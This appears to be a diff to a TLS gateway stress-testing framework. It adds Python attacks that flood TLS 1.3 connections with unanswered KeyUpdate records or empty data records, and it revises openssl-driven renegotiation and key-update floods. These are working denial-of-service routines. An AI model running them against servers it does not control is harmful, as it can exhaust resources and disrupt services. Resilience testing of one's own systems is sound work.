@@ -6,11 +6,12 @@ import ssl
 import subprocess
 import time
 
-from attack.engine import Report, crowd, flood, repeat
+from attack.engine import Report, crowd, flood, pump, repeat
 from attack.registry import TLS, attack
 from attack.h1_attacks import GET
 from attack.frames import PREFACE
-from attack.wire import Wire, tls_context
+from attack.tls_records import DATA, Records
+from attack.wire import Cut, Wire, tls_context
 
 
 def client_hello():
@@ -98,7 +99,8 @@ def handshakes(target):
 
 
 def openssl_client(target, arguments, command):
-    """A command of `openssl s_client`, again and again: R asks for a renegotiation, K for new keys."""
+    """A command of `openssl s_client`, again and again: R asks for a renegotiation. k sends new keys, and K asks
+    for such of the gateway as well."""
     def run():
         report = Report()
         with subprocess.Popen(["openssl", "s_client", "-connect", f"{target.host}:{target.port}", "-bind", target.address(), *arguments],
@@ -128,7 +130,34 @@ def renegotiation(target):
     return openssl_client(target, ["-tls1_2", "-alpn", "http/1.1"], b"R\n")
 
 
-@attack("tls-key-update", "the client asks for new keys of TLS 1.3, again and again", TLS,
-        bounded="each costs two derivations of keys")
+@attack("tls-key-update", "the client asks for new keys of TLS 1.3, again and again", TLS)
 def key_update(target):
     return openssl_client(target, ["-tls1_3", "-alpn", "http/1.1"], b"K\n")
+
+
+def records_flood(target, make):
+    """`make(records)` makes the records of one connection."""
+    records = Records(target)
+    blobs = [b"".join(make(records) for _ in range(1000)) for _ in range(20)]
+    more = (make(records) for _ in itertools.count())
+
+    def run():
+        report = Report()
+        try:
+            pump(records.wire, itertools.chain(blobs, more), report.started + target.seconds)
+        except Cut:
+            pass
+        report.add_wire(records.wire)
+        return report
+
+    return run
+
+
+@attack("tls-key-update-silent", "new keys of TLS 1.3 that ask for no answer", TLS, is_short=True)
+def key_update_silent(target):
+    return records_flood(target, Records.key_update)
+
+
+@attack("tls-empty-data", "records of TLS 1.3 without content", TLS)
+def empty_data(target):
+    return records_flood(target, lambda records: records.record(DATA, b""))
